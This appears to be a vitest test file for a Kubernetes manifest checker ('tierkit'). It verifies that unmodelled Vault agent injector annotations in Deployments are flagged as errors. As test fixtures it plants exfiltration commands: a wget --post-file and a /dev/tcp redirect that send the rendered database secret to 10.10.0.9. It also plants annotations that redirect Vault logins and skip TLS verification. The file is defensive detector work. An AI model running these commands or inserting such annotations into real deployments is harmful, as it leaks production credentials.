import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments, stringify } from 'yaml';
import { describe, expect, it } from 'vitest';
import { check, cleanDist, findings, freshDir } from './helpers';
import { rehashManifest } from './rehash';

// TK051 (with TK168 and every rule reading the injected pod): a Vault injector annotation tierkit
// neither writes nor models is a finding. vault-k8s agent-inject/agent/annotations.go:
// agent-inject-command-<name> runs a command in the agent after it renders the secret — in the
// container that holds the pod's Vault token and prod's credential — and service, proxy-address,
// tls-skip-verify and auth-* send the agent's login elsewhere.

const docs = (dir: string, file: string): any[] => parseAllDocuments(readFileSync(join(dir, file), 'utf8')).map((d) => d.toJS());

function edited(file: string, annotations: Record<string, string>): string {
  const dir = freshDir('agent-annotations');
  cpSync(cleanDist(), dir, { recursive: true });
  const objects = docs(dir, file);
  Object.assign(objects.find((o) => o.kind === 'Deployment').spec.template.metadata.annotations, annotations);
  writeFileSync(join(dir, file), objects.map((o) => `---\n${stringify(o)}`).join(''));
  rehashManifest(dir);
  return dir;
}

describe('a Vault agent annotation tierkit does not write is unmodelled', () => {
  it("prod's Deployment running a command in its agent (agent-inject-command-database) is an unsuppressible error", async () => {
    const report = await check(edited('k8s/prod/erp.k8s.yaml', {
      'vault.hashicorp.com/agent-inject-command-database': 'sh -c "wget -q --post-file=/vault/secrets/database http://10.10.0.9/"',
    }));
    const got = findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp/erp '));
    expect(got.map((f) => f.message)).toEqual([
      'Deployment erp/erp (erp (tier prod)): the injector options vault.hashicorp.com/agent-inject-command-database change the injected containers in ways tierkit does not model',
    ]);
    expect(got[0].severity).toBe('error');
    expect(got[0].suppressed).toBeUndefined();
  }, 120_000);

  it('names every unmodelled option (another Vault address, no TLS verification, a file rename), sorted', async () => {
    const report = await check(edited('k8s/dev/erp-dev.k8s.yaml', {
      'vault.hashicorp.com/tls-skip-verify': 'true',
      'vault.hashicorp.com/service': 'https://10.10.0.9:8200',
      'vault.hashicorp.com/agent-inject-file-database': 'db',
    }));
    expect(findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp-dev/erp ')).map((f) => f.message)).toEqual([
      'Deployment erp-dev/erp (erp-dev (tier dev)): the injector options vault.hashicorp.com/agent-inject-file-database, vault.hashicorp.com/service, '
      + 'vault.hashicorp.com/tls-skip-verify change the injected containers in ways tierkit does not model',
    ]);
  }, 120_000);

  it('a switch spelled as Go parses it ("True", "1") is unmodelled: the injector injects, or drops the agent\'s security context', async () => {
    const report = await check(edited('k8s/prod/erp.k8s.yaml', {
      'vault.hashicorp.com/agent-inject': 'True',
      'vault.hashicorp.com/agent-set-security-context': 'False',
      'vault.hashicorp.com/agent-inject-command-database': 'sh -c "cat /vault/secrets/database > /dev/tcp/10.10.0.9/80"',
    }));
    const got = findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp/erp '));
    expect(got.map((f) => f.message)).toEqual([
      'Deployment erp/erp (erp (tier prod)): the injector options vault.hashicorp.com/agent-inject="True", vault.hashicorp.com/agent-set-security-context="False" '
      + 'are booleans the injector parses as Go does (1, t, True…), not "true" or "false": what it injects is not modelled',
    ]);
    expect(got[0].suppressed).toBeUndefined();
  }, 120_000);

  it('options the model renders (the agent run as another user) stay judged, not unmodelled', async () => {
    const report = await check(edited('k8s/dev/erp-dev.k8s.yaml', { 'vault.hashicorp.com/agent-run-as-user': '0' }));
    const got = findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp-dev/erp ')).map((f) => f.message).join('\n');
    expect(got).toMatch(/runAsNonRoot|non-root/i);
    expect(got).not.toMatch(/does not model/);
  }, 120_000);
});
